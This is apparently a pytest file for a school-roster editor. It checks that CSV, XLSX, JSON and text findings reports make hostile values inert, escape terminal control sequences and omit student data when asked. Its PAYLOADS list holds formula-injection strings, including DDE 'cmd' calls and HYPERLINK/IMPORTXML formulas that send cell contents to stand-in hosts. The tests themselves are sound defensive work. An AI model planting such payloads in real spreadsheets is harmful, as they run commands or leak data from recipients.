"""Findings reports are safe to send: inert in Excel, harmless on a terminal, whole, value-free on request."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from openpyxl import load_workbook

from rostereditor.cli.main import main
from rostereditor.core.bundle import Bundle, BundleFile
from rostereditor.core.bundle_reader import read_bundle
from rostereditor.core.bundle_writer import write_bundle_zip
from rostereditor.core.report_text import escape_for_terminal, neutralise_formula
from rostereditor.core.sample_district import generate_district
from rostereditor.core.table import Table
from rostereditor.core.validation.finding import Finding
from rostereditor.core.xlsx.findings_report import write_findings_csv, write_findings_xlsx
from rostereditor.core.xlsx.workbook_writer import write_bundle_xlsx

# What a hostile roster value looks like when it hopes to run in the recipient's Excel.
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "=cmd|' /C notepad'!'A1'", '=IMPORTXML(CONCAT("http://e.example/?v=", A2), "//a")']


class _Result:
    def __init__(self, findings):
        self.findings = findings
        self.counts = {"error": len(findings), "warning": 0, "info": 0}


def payload_findings():
    return [Finding("users.csv", i + 2, "givenName", "value.test", "error", payload, payload, fix=payload)
            for i, payload in enumerate(PAYLOADS)]


def test_no_field_of_the_csv_report_can_run_as_a_formula(tmp_path):
    write_findings_csv(_Result(payload_findings()), tmp_path / "r.csv")
    text = (tmp_path / "r.csv").read_bytes().decode("utf-8-sig")
    records = list(csv.reader(io.StringIO(text, newline="")))
    fields = [field for record in records[1:] for field in record]
    assert len(records) == len(PAYLOADS) + 1
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert records[1][6] == "'" + PAYLOADS[0]  # the value is still all there, just inert


@pytest.mark.parametrize("text", ["-", "-5", "@x", "=", "\tx"])
def test_neutralising_keeps_the_text_after_the_apostrophe(text):
    assert neutralise_formula(text) == "'" + text
    assert neutralise_formula("Ana") == "Ana"


def sheet_parts(path):
    with zipfile.ZipFile(path) as archive:
        return {n: archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")}


def test_the_xlsx_findings_report_stores_payloads_as_text_never_formulas(tmp_path):
    write_findings_xlsx(_Result(payload_findings()), tmp_path / "r.xlsx")
    for xml in sheet_parts(tmp_path / "r.xlsx").values():
        assert "<f>" not in xml
        assert "<f " not in xml
    sheet = load_workbook(tmp_path / "r.xlsx")["Findings"]
    assert [sheet.cell(r, 7).data_type for r in range(2, len(PAYLOADS) + 2)] == ["s"] * len(PAYLOADS)


def test_the_exported_workbook_stores_payloads_as_text_never_formulas(tmp_path):
    table = Table.from_rows(["sourcedId", "givenName"], [[f"u{i}", p] for i, p in enumerate(PAYLOADS)])
    bundle = Bundle(files={"users.csv": BundleFile("users.csv", "users.csv", table)})
    write_bundle_xlsx(bundle, tmp_path / "book.xlsx")
    for xml in sheet_parts(tmp_path / "book.xlsx").values():
        assert "<f>" not in xml
        assert "<f " not in xml


def test_the_text_report_shows_terminal_escapes_instead_of_running_them(tmp_path, capsys):
    folder = tmp_path / "b"
    folder.mkdir()
    # A header name with an escape sequence, a bidi override and a line break in it.
    (folder / "users.csv").write_bytes('sourcedId,"\x1b]0;pwned\x07\x1b[2J\u202eevil\nx"\r\nu1,\r\n'.encode())
    main(["validate", str(folder)])
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "\x07" not in out
    assert "\u202e" not in out
    assert "\\x1b]0;pwned\\x07" in out
    assert "\\u202eevil\\nx" in out


def test_escaping_leaves_ordinary_text_alone():
    assert escape_for_terminal("Zoë O'Brien, 09 — 北京") == "Zoë O'Brien, 09 — 北京"


def test_json_report_escapes_c1_controls_and_stays_valid_json(tmp_path, capsys):
    folder = tmp_path / "b"
    folder.mkdir()
    (folder / "users.csv").write_bytes('sourcedId,"a\u009b31mb"\r\nu1,\r\n'.encode())
    main(["validate", str(folder), "--format", "json"])
    out = capsys.readouterr().out
    assert "\u009b" not in out
    assert any("a\u009b31mb" in f["message"] for f in json.loads(out)["findings"])


PERSONAL = {"users.csv": ("sourcedId", "givenName", "familyName", "username", "email", "identifier"),
            "demographics.csv": ("sourcedId", "birthDate")}


def damaged_zip(tmp_path):
    path = tmp_path / "damaged.zip"
    write_bundle_zip(generate_district(40, seed=3, damaged=True).bundle, path)
    return path


def student_values(path, capsys) -> set[str]:
    """Every student's IDs, names, usernames, emails and birth dates in the bundle."""
    bundle = read_bundle(path)
    values = set()
    for file, columns in PERSONAL.items():
        table = bundle.table(file)
        for column in columns:
            index = table.column_index(column)
            values |= {v for v in table.column_values(index) if len(v) >= 3}
    # The normal report does show some of them: that is what --no-values must remove.
    main(["validate", str(path), "--format", "json"])
    normal = capsys.readouterr().out
    assert any(v in normal for v in values)
    return values


def test_no_values_json_report_holds_none_of_the_bundles_values(tmp_path, capsys):
    path = damaged_zip(tmp_path)
    values = student_values(path, capsys)
    assert main(["validate", str(path), "--format", "json", "--no-values"]) == 1
    out = capsys.readouterr().out
    report = json.loads(out)
    assert all("value" not in f for f in report["findings"])
    assert [v for v in values if v in out] == []
    assert report["counts"]["error"] > 0  # still a useful report: what, where and why


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_values_file_reports_hold_none_of_the_bundles_values(tmp_path, capsys, kind):
    path = damaged_zip(tmp_path)
    values = student_values(path, capsys)
    report = tmp_path / f"r.{kind}"
    assert main(["validate", str(path), "--format", kind, "-o", str(report), "--no-values"]) == 1
    if kind == "csv":
        text = report.read_bytes().decode("utf-8-sig")
        assert text.startswith("file,line,column,rule,severity,message\r\n")
    else:
        book = load_workbook(report)
        text = "\n".join(str(c.value) for sheet in book for row in sheet.iter_rows() for c in row)
        assert "Value" not in [c.value for c in book["Findings"][1]]
    assert [v for v in values if v in text] == []


def test_the_report_file_is_replaced_whole_or_not_at_all(tmp_path, monkeypatch, capsys):
    path = damaged_zip(tmp_path)
    report = tmp_path / "report.txt"
    report.write_text("the previous report\n")

    def disk_fills(_result, out, **_options):  # the report is written as findings are made
        out.write("half a rep")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("rostereditor.cli.findings_output.write_text", disk_fills)
    assert main(["validate", str(path), "-o", str(report)]) == 2
    monkeypatch.undo()
    assert report.read_text() == "the previous report\n"
    assert "disk is full" in capsys.readouterr().err
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_pack_shows_notices_with_escapes_instead_of_running_them(tmp_path, capsys):
    folder = tmp_path / "b"
    folder.mkdir()
    (folder / "users.csv").write_bytes(b'sourcedId,"\x1b[2J",\x1b[2J\r\nu1,,\r\n')
    assert main(["pack", str(folder), "-o", str(tmp_path / "o.zip")]) == 0
    err = capsys.readouterr().err
    assert "\x1b" not in err
    assert "\\x1b[2J" in err
